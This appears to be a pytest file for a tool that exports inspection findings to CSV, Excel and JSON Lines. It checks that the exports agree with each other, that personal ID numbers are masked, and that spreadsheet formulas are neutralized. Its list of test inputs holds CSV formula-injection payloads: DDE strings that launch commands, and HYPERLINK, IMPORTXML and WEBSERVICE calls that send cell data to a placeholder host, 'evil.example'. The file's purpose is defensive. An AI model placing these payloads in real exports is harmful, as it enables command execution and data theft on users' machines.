"""Findings as workbook and JSON Lines, and what none of the three formats may let out: formulas and people's numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import time
from pathlib import Path
from typing import Any

import attrs
import openpyxl
import pytest

from archive.ledger import open_ledger
from checks.model import Finding
from publish import jsonl_export, xlsx_export  # noqa: F401  registers the exports
from publish.csv_export import FIELDS
from publish.database import publish
from publish.exports import EXPORTS, ExportOptions, also_as, export_to_file, export_to_stream
from tests.publish.browse import site
from tests.publish.kept import ID_NUMBER, NIGHT, keep
from tests.publish.night import BUDGET, CATALOGUE, SECOND, run, two_nights

FORMATS = ("csv", "xlsx", "jsonl")
# What is known to make a spreadsheet calculate, load or run something.
EVIL = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u3000=1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)",
    "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")", "+cmd|'/C calc'!A0", "-cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', '=IMPORTXML("http://evil.example","//a")', '=WEBSERVICE("http://evil.example")',
    "=2+5+cmd|' /C calc'!A0,\"x\"", '";=1+1', "',=1+1", "{=1+1}", "普通文字",
)  # fmt: skip


def exported(database: Path, kind: str, **options: Any) -> bytes:
    """The bytes of an export."""
    stream = io.BytesIO()
    export_to_stream("findings", database, stream, ExportOptions(**options), kind)
    return stream.getvalue()


def lines(database: Path, kind: str) -> list[list[str]]:
    """The cells of an export, the head left out, as text."""
    data = exported(database, kind, bom=False)
    if kind == "csv":
        return list(csv.reader(io.StringIO(data.decode(), newline="")))[1:]
    if kind == "jsonl":
        return [["" if value is None else str(value) for value in json.loads(line).values()] for line in data.splitlines()]
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    return [["" if value is None else str(value) for value in row] for row in list(sheet.iter_rows(values_only=True))[1:]]


@pytest.fixture(scope="module")
def database(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The kept night, published."""
    return keep(tmp_path_factory.mktemp("formats"))


def published_with(folder: Path, findings: list[Finding]) -> Path:
    """A published database of these findings."""
    with two_nights(folder / "ledger.db") as ledger:
        ledger.record_findings(SECOND, findings)
        publish(ledger, folder / "findings.db", run=SECOND, catalogue=CATALOGUE)
    return folder / "findings.db"


def test_all_formats_hold_the_same_lines_in_the_same_order(database: Path) -> None:
    """Columns and order are one contract; only the spelling of numbers is the format's own."""

    def same(cell: str) -> str:
        try:
            return f"{float(cell):.2f}"
        except ValueError:
            return cell

    told = [[[same(cell) for cell in line] for line in lines(database, kind)] for kind in FORMATS]

    assert told[0] == told[1] == told[2]
    assert len(told[0]) == len(NIGHT)


def test_json_lines_keep_values_as_they_are(database: Path) -> None:
    """Numbers are numbers, what is absent is null, names are those of the CSV for scripts."""
    first = json.loads(exported(database, "jsonl").splitlines()[0])

    assert list(first) == [field.name for field in FIELDS]
    assert isinstance(first["finding_id"], int) and isinstance(first["confidence"], float)
    assert first["evidence_number"] == 1


def test_the_workbook_can_be_read_by_people(database: Path) -> None:
    """Head frozen and filterable, wide columns for long texts, a sheet that says what it is and of which night."""
    book = openpyxl.load_workbook(io.BytesIO(exported(database, "xlsx")))
    sheet, about = book.worksheets

    assert [cell.value for cell in sheet[1]] == [field.zh for field in FIELDS]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:AE{len(NIGHT) + 1}"
    widths = {field.name: sheet.column_dimensions[sheet.cell(1, n).column_letter].width for n, field in enumerate(FIELDS, 1)}
    assert widths["quote"] > widths["message"] > widths["rendered"]
    assert sheet["A2"].number_format == "0"  # fifteen digits, not a power of ten
    told = [[cell for cell in row if cell is not None] for row in about.iter_rows(values_only=True)]
    assert any(SECOND in row and "2015-07-31" in row for row in told)
    assert [row[1] for row in told if row and isinstance(row[0], int)] == [field.name for field in FIELDS]


def test_the_same_rows_are_the_same_bytes(database: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Whenever and wherever it is written."""
    first = [exported(database, kind) for kind in FORMATS]
    monkeypatch.setenv("TZ", "America/New_York")
    time.tzset()
    time.sleep(2.1)  # a ZIP counts time in steps of two seconds, a workbook in seconds
    try:
        assert [exported(database, kind) for kind in FORMATS] == first
    finally:
        os.environ.pop("TZ", None)
        time.tzset()


@pytest.mark.parametrize("kind", FORMATS)
def test_nothing_that_a_page_says_becomes_a_formula(tmp_path: Path, kind: str) -> None:
    """A corpus of known tricks in titles, excerpts and addresses: text everywhere, whole, and nothing else."""
    findings = [
        attrs.evolve(
            BUDGET, subject=f"s{n}", subject_name=words, message=words, looked=words,
            evidence=(attrs.evolve(BUDGET.evidence[0], quote=words, locator=words, url=words),),
        )
        for n, words in enumerate(EVIL)
    ]  # fmt: skip
    database = published_with(tmp_path, findings)
    places = [
        n for n, field in enumerate(FIELDS) if field.name in ("subject_name", "message", "looked", "evidence_url", "locator", "quote")
    ]
    shown = {line[place] for line in lines(database, kind) for place in places if line[4] == BUDGET.unit}

    if kind == "csv":
        assert {words if words in EVIL else words[1:] for words in shown} >= set(EVIL)
        bare = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
        assert [words for words in shown if words.lstrip(" \u00a0\u3000\ufeff").startswith(bare)] == []
    elif kind == "jsonl":
        assert shown >= set(EVIL)
    else:
        book = openpyxl.load_workbook(io.BytesIO(exported(database, kind)))
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        assert {cell.data_type for cell in cells} <= {"s", "n"}
        assert [cell.value for cell in cells if cell.hyperlink] == []
        assert {words.replace("_x000D_", "\r") for words in shown} >= set(EVIL)
        quoted = {cell.value for cell in cells if cell.quotePrefix}
        assert {"=1+1", "＝1+1", " =1+1"} <= quoted and "普通文字" not in quoted


@pytest.mark.parametrize("kind", FORMATS)
def test_peoples_numbers_do_not_leave(database: Path, kind: str) -> None:
    """Neither in the message nor in the quote; an office's telephone stays."""
    shown = "\n".join(cell for line in lines(database, kind) for cell in line)

    assert ID_NUMBER not in shown
    assert shown.count("110" + "*" * 15) == 2
    assert "0000-1234567" in shown


def test_a_cell_that_is_too_long_says_that_it_was_cut(tmp_path: Path) -> None:
    """A spreadsheet would drop it whole."""
    database = published_with(tmp_path, [attrs.evolve(BUDGET, message="长" * 40_000)])

    shown = next(line for line in lines(database, "xlsx") if line[4] == BUDGET.unit)[21]

    assert len(shown) == xlsx_export.LONGEST and shown.endswith(xlsx_export.CUT)


def test_rows_beyond_a_sheet_go_to_the_next(database: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A sheet holds a million rows; the rest must not vanish."""
    monkeypatch.setattr(xlsx_export, "MOST_ROWS", 3)
    book = openpyxl.load_workbook(io.BytesIO(exported(database, "xlsx")))

    rows = [list(sheet.iter_rows(min_row=2, values_only=True)) for sheet in book.worksheets[:-1]]

    assert [len(each) for each in rows] == [2, 2, 1]
    assert [sheet.cell(1, 1).value for sheet in book.worksheets[:-1]] == ["结果编号"] * 3


def test_a_file_is_written_whole_with_its_dictionary(database: Path, tmp_path: Path) -> None:
    """In every format."""
    for kind in FORMATS:
        assert export_to_file("findings", database, tmp_path / f"out.{kind}", ExportOptions(), kind) == len(NIGHT)
    assert sorted(path.name for path in tmp_path.iterdir()) == sorted(f"out.{kind}{more}" for kind in FORMATS for more in ("", ".md"))


def test_a_format_is_registered_once() -> None:
    """Two writers of one format are a programming error; CSV has one already."""
    for kind in ("xlsx", "csv"):
        with pytest.raises(ValueError, match=kind):
            also_as("findings", kind)(lambda *_: 0)
    assert EXPORTS["findings"].formats == ("csv", "jsonl", "xlsx")


def test_an_empty_export_is_a_head_alone(tmp_path: Path) -> None:
    """A night without findings."""
    with open_ledger(tmp_path / "ledger.db") as ledger:
        ledger.record_run(run(SECOND, dt.date(2015, 7, 31), 31), ["yunxi"])
        publish(ledger, tmp_path / "findings.db", run=SECOND, catalogue=CATALOGUE)

    assert [len(lines(tmp_path / "findings.db", kind)) for kind in FORMATS] == [0, 0, 0]


async def test_what_is_downloaded_from_the_pages_is_masked_too(database: Path) -> None:
    """Datasette's own CSV leaves as ours does."""
    answer = await site(database).client.get("/findings/evidence.csv?_stream=1&_size=max")

    assert answer.status_code == 200
    assert ID_NUMBER not in answer.text and "110" + "*" * 15 in answer.text and "0000-1234567" in answer.text
